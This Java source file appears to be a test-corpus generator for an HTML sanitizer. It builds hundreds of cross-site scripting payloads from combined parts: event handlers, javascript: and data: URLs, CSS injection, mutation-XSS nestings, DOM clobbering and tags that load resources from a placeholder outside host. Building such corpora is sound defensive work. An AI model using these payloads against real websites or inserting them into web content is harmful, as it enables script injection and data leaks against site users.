package org.salonarchive.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Snippets of our own, class by class, each combination of its parts once. */
final class Generated {

    private static final String FAR = "http://far.invalid/";

    private static final List<String> TAGS = List.of(
            "img src=x:", "svg", "body", "details open", "input autofocus", "p tabindex=1 autofocus", "marquee");
    private static final List<String> EVENTS =
            List.of("onload", "onerror", "ontoggle", "onfocus", "onclick", "onmouseover", "onanimationstart");
    private static final List<String> EQUALS = List.of("=alert(1)", "\n=\n'alert(1)'", "=&#97;lert&lpar;1)");

    private static final List<String> SCRIPT_ADDRESSES = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java&#x09;script:alert(1)",
            "java&NewLine;script&colon;alert(1)",
            " &#1;javascript:alert(1)",
            "&#106;avascript:alert(1)",
            "vbscript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
    private static final List<String> SLOTS = List.of(
            "<a href=\"%s\">x</a>",
            "<iframe src=\"%s\"></iframe>",
            "<form action=\"%s\"><button>x</button></form>",
            "<svg><a xlink:href=\"%s\"><text y=9>x</text></a></svg>",
            "<object data=\"%s\"></object>",
            "<embed src=\"%s\">",
            "<base href=\"%s\">",
            "<meta http-equiv=refresh content=\"0;url=%s\">");

    private static final List<String> STYLES = List.of(
            "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999",
            "position:absolute !important;inset:0",
            "position:sticky;top:0",
            "po\\73ition:fixed;inset:0",
            "margin:-999px;width:9999px;height:9999px;display:block",
            "animation:a 1s infinite",
            "background:url(" + FAR + "background)",
            "background:u\\72l(" + FAR + "escaped)",
            "list-style-image:image-set('" + FAR + "set' 1x)",
            "--x:url(" + FAR + "variable);background:var(--x)",
            "width:expression(alert(1));behavior:url(x.htc)");
    private static final List<String> STYLED = List.of(
            "<div style=\"%s\">x</div>",
            "<style>body,.body{%s}</style>x", "<table><td style='%s'>x</table>", "<svg><style>*{%s}</style></svg>");

    private static final List<String> NESTINGS = List.of(
            "<math><mtext><table><mglyph><style><!--</style>%s--></style>",
            "<svg></p><style><a id=\"</style>%s\">",
            "<noscript><p title=\"</noscript>%s\">",
            "<template><style></template>%s</style>",
            "<svg><title><style><!--</style>%s--></style>",
            "<svg><foreignObject><math><mi><style></math>%s</style>",
            "<select><option><style></option></select>%s</style>",
            "<!--><x>-->%s<!--",
            "<!-- --!>%s -->",
            "<textarea><a title=\"</textarea>%s\">",
            "<title><a title='</title>%s'>",
            "<xmp><a title='</xmp>%s'>",
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>%s\">",
            "<table><caption><svg><desc></table>%s",
            "<svg><![CDATA[><a title=\"]]>%s\">",
            "<?xml version=\"1.0\"?>%s",
            "</script></style></title></textarea>%s",
            "\"'>%s",
            "' autofocus onfocus=alert(1) x='%s",
            "<scr<script>ipt>%s</scr</script>ipt>");
    private static final List<String> CORES =
            List.of("<img src=x: onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>");

    private static final List<String> REMOTE = Stream.of(
                    "<img src=%s>",
                    "<img srcset='%s 2x'>",
                    "<picture><source srcset=%s><img></picture>",
                    "<video poster=%s></video>",
                    "<audio src=%s autoplay></audio>",
                    "<track src=%s>",
                    "<body background=%s>",
                    "<table background=%s><td>x</table>",
                    "<a href=# ping=%s>x</a>",
                    "<input type=image src=%s>",
                    "<link rel=stylesheet href=%s>",
                    "<link rel=preload as=image imagesrcset=%s>",
                    "<link rel=preconnect href=%s>",
                    "<link rel=preconnect href=https://far.invalid/><i title=%s>x</i>",
                    "<link rel=dns-prefetch href=%s>",
                    "<link rel=prefetch href=%s>",
                    "<svg><image xlink:href=%s /></svg>",
                    "<svg><use href=%s#x /></svg>",
                    "<svg><feImage href=%s /></svg>",
                    "<script src=%s></script>",
                    "<iframe src=%s></iframe>",
                    "<iframe srcdoc='&lt;img src=%s&gt;'></iframe>",
                    "<object data=%s></object>",
                    "<form action=%s><input name=q value=secret></form>",
                    "<button formaction=%s form=f>x</button><form id=f></form>",
                    "<style>@import '%s';</style>",
                    "<style>@font-face{font-family:x;src:url(%s)}*{font-family:x}</style>",
                    "<meta http-equiv=refresh content='0;url=%s'>",
                    "<base href=%s><img src=relative>")
            .map(form -> String.format(form, FAR))
            .toList();

    private static final List<String> CLOBBERING = Stream.of(
                    "attributes", "body", "forms", "location", "main", "cookie", "getElementById", "__proto__")
            .flatMap(name -> Stream.of(
                    "<form id=" + name + "><input name=" + name + "></form>",
                    "<img name=" + name + "><a id=" + name + " href=tel:1>x</a><a id=" + name + " name=x>y</a>"))
            .toList();

    private Generated() {}

    /** Of every class all combinations. */
    static List<String> all() {
        List<String> all = new ArrayList<>(running());
        all.addAll(REMOTE);
        all.addAll(CLOBBERING);
        for (String slot : SLOTS) {
            SCRIPT_ADDRESSES.forEach(address -> all.add(String.format(slot, address)));
        }
        for (String styled : STYLED) {
            STYLES.forEach(style -> all.add(String.format(styled, style)));
        }
        for (String nesting : NESTINGS) {
            CORES.forEach(core -> all.add(String.format(nesting, core)));
        }
        for (String tag : TAGS) {
            for (String event : EVENTS) {
                EQUALS.forEach(handler -> all.add("<" + tag + " " + event + handler + ">x"));
            }
        }
        return all;
    }

    /** Those that run or ask by themselves, and every sixth of the others; always the same ones. */
    static List<String> sample() {
        List<String> all = all();
        int always = running().size() + REMOTE.size();
        return IntStream.range(0, all.size())
                .filter(i -> i < always || i % 12 == 0)
                .mapToObj(all::get)
                .toList();
    }

    /** Those that run in a page without any defence, with nobody touching it. */
    static List<String> running() {
        return List.of(
                "<script>alert(1)</script>",
                "<img src=x: onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<iframe src='javascript:alert(1)'></iframe>",
                "<script>throw new Error('ran')</script>",
                "<script>window.open('about:blank')</script>",
                "<script>document.title='changed'</script>",
                "<script>fetch('http://far.invalid/')</script>");
    }

    /** Those that ask another host, with nobody touching them but to send their forms. */
    static List<String> asking() {
        return REMOTE.stream()
                .filter(snippet -> Stream.of(
                                "<img", "<link rel=stylesheet", "<iframe", "<form", "<meta", "<base", "<body")
                        .anyMatch(snippet::startsWith))
                .toList();
    }
}
